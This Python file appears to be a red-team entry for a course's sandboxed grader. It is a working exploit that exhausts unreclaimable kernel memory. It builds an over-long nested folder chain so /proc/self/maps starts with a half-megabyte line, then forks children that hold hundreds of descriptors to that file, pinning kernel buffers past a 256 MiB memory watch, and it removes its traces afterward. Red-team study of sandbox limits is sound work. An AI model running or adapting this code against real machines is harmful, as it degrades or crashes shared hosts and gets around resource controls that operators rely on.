import ctypes
import os
import signal
import struct
import time

MIB = 1 << 20
CAP = 256 * MIB  # what the zygote's watch allows page tables, the same kind of memory: the bar
CHILDREN = 6  # forked at once, each holding up to its open-file limit (512 KiB a descriptor): 0.75 GiB at most
LEVELS = 1_050  # folders of PART-long names: a path of 263,550 characters, one line of /proc/PID/maps
PART = "p" * 250
LOW = 0x100000  # the address asked for (a hint): the lowest mapping is the first line of the maps
SECONDS = 5.0  # the red team's grader gives one test's calls 10 s
HOLD_S = 0.5  # held this long after the last child is done: 10 looks of the watch (every 50 ms)
SPARE_FILES = 8  # descriptors each child leaves unopened under its open-file limit
GROUP_PREFIX = "cs336-worker-"  # the memory group the grader makes for a worker, where it can
_outcome = []  # (held bytes, what happened), once per process: every later call answers the same

_libc = ctypes.CDLL(None, use_errno=True)
_libc.mmap.restype = ctypes.c_void_p
_libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_long]
_libc.munmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t]
_FAILED = ctypes.c_void_p(-1).value


def unreclaimable_slab():
    """SUnreclaim of /proc/meminfo in bytes (where kmalloc's large buffers are counted); None where unread."""
    try:
        with open("/proc/meminfo") as handle:
            for line in handle:
                if line.startswith("SUnreclaim:"):
                    return int(line.split()[1]) * 1024
    except (OSError, ValueError, IndexError):
        return None
    return None


def map_deep_file():
    """A page of a file at the end of a chain of LEVELS folders in the working folder (made one level at a
    time by descriptor: the path is far past PATH_MAX), mapped read-only: the kernel names the mapping by
    its whole path in /proc/self/maps, one line of half a megabyte. The address, or None."""
    folder = os.open(".", os.O_RDONLY | os.O_DIRECTORY)
    try:
        for name in ["deep-maps"] + [PART] * LEVELS:
            try:
                os.mkdir(name, dir_fd=folder)
            except FileExistsError:
                pass
            inner = os.open(name, os.O_RDONLY | os.O_DIRECTORY, dir_fd=folder)
            os.close(folder)
            folder = inner
        fd = os.open("f", os.O_RDWR | os.O_CREAT, 0o600, dir_fd=folder)
    finally:
        os.close(folder)
    try:
        os.ftruncate(fd, 4096)
        address = _libc.mmap(LOW, 4096, 1, 2, fd, 0)  # PROT_READ, MAP_PRIVATE; below everything else
    finally:
        os.close(fd)
    return None if address in (None, _FAILED) else address


def remove_chain(step=8):
    """Remove the chain from the bottom up, so that the grader's count of the folders after each call does not
    walk it: one walk down holds a descriptor every `step` levels, then each stretch below one is opened again,
    emptied and removed (the kernel's limit on open files is far below the levels)."""
    top = os.open(".", os.O_RDONLY | os.O_DIRECTORY)
    marks = []
    try:
        try:
            marks.append(os.open("deep-maps", os.O_RDONLY | os.O_DIRECTORY, dir_fd=top))
        except FileNotFoundError:
            return
        fd, depth = os.dup(marks[0]), 0
        while True:
            try:
                below = os.open(PART, os.O_RDONLY | os.O_DIRECTORY, dir_fd=fd)
            except FileNotFoundError:
                break
            os.close(fd)
            fd, depth = below, depth + 1
            if depth % step == 0:
                marks.append(os.dup(fd))
        os.close(fd)
        while marks:
            stack = [marks.pop()]
            try:
                while True:
                    try:
                        stack.append(os.open(PART, os.O_RDONLY | os.O_DIRECTORY, dir_fd=stack[-1]))
                    except FileNotFoundError:
                        break
                try:
                    os.unlink("f", dir_fd=stack[-1])
                except FileNotFoundError:
                    pass
                while len(stack) > 1:
                    os.close(stack.pop())
                    os.rmdir(PART, dir_fd=stack[-1])
            finally:
                for fd in stack:
                    os.close(fd)
        os.rmdir("deep-maps", dir_fd=top)
    except OSError:
        pass
    finally:
        for fd in marks:
            os.close(fd)
        os.close(top)


def _long_line_first():
    """Whether the long line is the first of this process's maps (the same in every fork: the maps are
    inherited), so that reading one byte of the file makes the kernel render it whole."""
    with open("/proc/self/maps", "rb") as handle:
        return PART.encode() in handle.readline()


def _child(writer, deadline):
    """In a forked child: open /proc/self/maps up to the open-file limit, each read by one byte (the first line
    is the long one), so that the kernel's buffer for the file (seq_file: a power of two that holds a whole
    line, 512 KiB here) stays allocated while the descriptor is open. Say how many, then sleep until killed."""
    held = 0
    try:
        import resource

        most = resource.getrlimit(resource.RLIMIT_NOFILE)[0] - SPARE_FILES
        while held < most and time.monotonic() < deadline:
            fd = os.open("/proc/self/maps", os.O_RDONLY)
            os.read(fd, 1)
            held += 1
    except BaseException:  # noqa: BLE001 - the parent must hear from every child
        pass
    os.write(writer, struct.pack("<Q", held))
    while True:
        time.sleep(60)


def hold_buffers(seconds=SECONDS):
    """Children forked at once, each holding descriptors of its maps whose kernel buffers hold the
    long line; (bytes held, what happened): SUnreclaim before and after (512 KiB a descriptor where unread)."""
    start = time.monotonic()
    deadline, before = start + seconds, unreclaimable_slab()
    address = map_deep_file()
    if address is None:
        return 0, "the deep file could not be mapped"
    if not _long_line_first():
        _libc.munmap(address, 4096)
        remove_chain()
        return 0, "the deep file's mapping is not the first of the maps"
    children, descriptors, stopped = [], 0, "made them all"
    reader, writer = os.pipe()
    try:
        while len(children) < CHILDREN:  # all at once: each renders the long line for every descriptor
            try:
                pid = os.fork()
            except OSError as error:
                stopped = f"fork: {error.strerror}"
                break
            if pid == 0:
                os.close(reader)
                try:
                    _child(writer, deadline)
                finally:
                    os._exit(0)
            children.append(pid)
        for _ in children:
            got = os.read(reader, 8)
            if len(got) < 8:
                stopped = "a child died before it said what it held"
                break
            descriptors += struct.unpack("<Q", got)[0]
        time.sleep(HOLD_S)
        after = unreclaimable_slab()
        alive = sum(1 for pid in children if os.waitpid(pid, os.WNOHANG) == (0, 0))
        measured = before is not None and after is not None
        held = after - before if measured else descriptors * MIB // 2
        outcome = (f"{len(children)} children ({alive} alive after {HOLD_S:g} s more; {stopped}), {descriptors:,} "
                   f"descriptors of /proc/self/maps, SUnreclaim {'+' if measured else 'unread; estimated '}"
                   f"{held / MIB:,.0f} MiB, {time.monotonic() - start:.1f} s")
        if alive < len(children):
            held = 0
    finally:
        for pid in children:
            try:
                os.kill(pid, signal.SIGKILL)
                os.waitpid(pid, 0)
            except OSError:
                pass
        os.close(reader)
        os.close(writer)
        _libc.munmap(address, 4096)
        remove_chain()
    return held, outcome


def memory_group():
    """The memory cgroup the grader made for this worker, where /proc/self/cgroup names one (None else)."""
    try:
        with open("/proc/self/cgroup") as handle:
            for line in handle:
                _, controllers, path = line.rstrip("\n").split(":", 2)
                if (controllers == "" or "memory" in controllers.split(",")) and GROUP_PREFIX in path:
                    return path
    except (OSError, ValueError):
        return None
    return None


def attack(args):
    """Hold the buffers once; if they held past the cap while every child lived on under the watch, outside
    a memory group of the worker's own, answer honestly (full marks on Problem 1 is the attack getting
    through), else fail saying what stopped it."""
    if not _outcome:
        _outcome.append(hold_buffers())
    held, happened = _outcome[0]
    group = memory_group()
    if group is not None:
        raise MemoryError(f"held {held / MIB:,.0f} MiB of kernel memory in /proc buffers ({happened}), but the "
                          f"kernel charges them to the worker's memory group {group}, which bounds them")
    if held < CAP:
        raise MemoryError(f"held only {held / MIB:,.0f} MiB of kernel memory in /proc buffers ({happened})")
    if len(_outcome) == 1:  # said once per process, in the output of the test that made it
        _outcome.append("said")
        print(f"held {held / MIB:,.0f} MiB of kernel memory in /proc buffers ({happened})", flush=True)
    return None  # the function's own body runs on
